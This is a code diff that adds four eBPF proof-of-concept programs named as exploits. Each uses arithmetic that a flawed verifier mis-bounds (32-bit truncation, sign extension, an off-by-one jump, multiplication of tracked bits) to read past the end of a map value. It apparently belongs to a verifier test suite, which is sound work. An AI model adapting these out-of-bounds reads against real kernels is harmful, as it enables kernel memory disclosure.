@@ -122,6 +122,94 @@ xbase::Result<Program> BuildJmp32BoundsExploit(int map_fd) {
   return fixed;
 }
 
+xbase::Result<Program> BuildAlu32TruncExploit(int map_fd) {
+  ProgramBuilder b("alu32_trunc", ProgType::kKprobe);
+  b.Ins(StMemImm(BPF_W, R10, -4, 0))
+      .Ins(LdMapFd(R1, map_fd))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -4))
+      .Ins(CallHelper(kHelperMapLookupElem))
+      .JmpTo(BPF_JEQ, R0, 0, "out")
+      .Ins(LdxMem(BPF_DW, R6, R0, 0))
+      // Bound r6 to [0, 2^32-1] (reg compare: a 64-bit JGT immediate
+      // cannot express the u32 max).
+      .Ins(LdImm64(R8, 0xffffffffULL))
+      .JmpRegTo(BPF_JGT, R6, R8, "out")
+      // w6 += 8: the 64-bit interval [8, 2^32+7] crosses 2^32. The buggy
+      // epilogue truncates both ends mod 2^32, gets [8, 7], "fixes" the
+      // inversion to [0, 7]; the sound recomputation gives [0, 2^32-1].
+      .Ins(Alu32Imm(BPF_ADD, R6, 8))
+      .Ins(Alu64Reg(BPF_ADD, R0, R6))
+      .Ins(LdxMem(BPF_DW, R1, R0, 0))  // 8 bytes at value + [0, 2^32-1]
+      .Bind("out")
+      .Ins(Mov64Imm(R0, 0))
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildSignExtExploit(int map_fd) {
+  ProgramBuilder b("sign_ext", ProgType::kKprobe);
+  b.Ins(StMemImm(BPF_W, R10, -4, 0))
+      .Ins(LdMapFd(R1, map_fd))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -4))
+      .Ins(CallHelper(kHelperMapLookupElem))
+      .JmpTo(BPF_JEQ, R0, 0, "out")
+      // Runtime zero-extends: r6 = 0xffffffff. The buggy verifier records
+      // the sign-extended constant 0xffffffffffffffff.
+      .Ins(Mov32Imm(R6, -1))
+      // Runtime: 0xffffffff + 1 = 2^32, >> 28 = 16. Buggy: -1 + 1 = 0.
+      .Ins(Alu64Imm(BPF_ADD, R6, 1))
+      .Ins(Alu64Imm(BPF_RSH, R6, 28))
+      .Ins(Alu64Reg(BPF_ADD, R0, R6))
+      .Ins(LdxMem(BPF_DW, R1, R0, 0))  // 8 bytes at value + 16: off the end
+      .Bind("out")
+      .Ins(Mov64Imm(R0, 0))
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildJgtOffByOneExploit(int map_fd) {
+  ProgramBuilder b("jgt_off_by_one", ProgType::kKprobe);
+  b.Ins(StMemImm(BPF_W, R10, -4, 0))
+      .Ins(LdMapFd(R1, map_fd))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -4))
+      .Ins(CallHelper(kHelperMapLookupElem))
+      .JmpTo(BPF_JEQ, R0, 0, "out")
+      .Ins(LdxMem(BPF_DW, R6, R0, 0))
+      // Fall-through means r6 <= 9; the buggy refinement concludes r6 <= 8,
+      // so 8-byte access at value + 9 (needs 17 <= 16) slips through.
+      .JmpTo(BPF_JGT, R6, 9, "out")
+      .Ins(Alu64Reg(BPF_ADD, R0, R6))
+      .Ins(LdxMem(BPF_DW, R1, R0, 0))
+      .Bind("out")
+      .Ins(Mov64Imm(R0, 0))
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildTnumMulExploit(int map_fd) {
+  ProgramBuilder b("tnum_mul", ProgType::kKprobe);
+  b.Ins(StMemImm(BPF_W, R10, -4, 0))
+      .Ins(LdMapFd(R1, map_fd))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -4))
+      .Ins(CallHelper(kHelperMapLookupElem))
+      .JmpTo(BPF_JEQ, R0, 0, "out")
+      .Ins(LdxMem(BPF_DW, R6, R0, 0))
+      .Ins(Alu64Imm(BPF_AND, R6, 1))
+      // r6 in {0, 24}. The buggy tnum mul keeps value*value and or-ed
+      // masks: {0 * 24, 1 | 0} = bits {0,1}, claiming r6 <= 1.
+      .Ins(Alu64Imm(BPF_MUL, R6, 24))
+      .Ins(Alu64Reg(BPF_ADD, R0, R6))
+      .Ins(LdxMem(BPF_DW, R1, R0, 0))  // 8 bytes at value + 24 into 16
+      .Bind("out")
+      .Ins(Mov64Imm(R0, 0))
+      .Ins(Exit());
+  return b.Build();
+}
+
 xbase::Result<Program> BuildPtrLeakExploit(int map_fd) {
   ProgramBuilder b("ptr_leak", ProgType::kSocketFilter);
   b.Ins(StMemImm(BPF_W, R10, -4, 0))
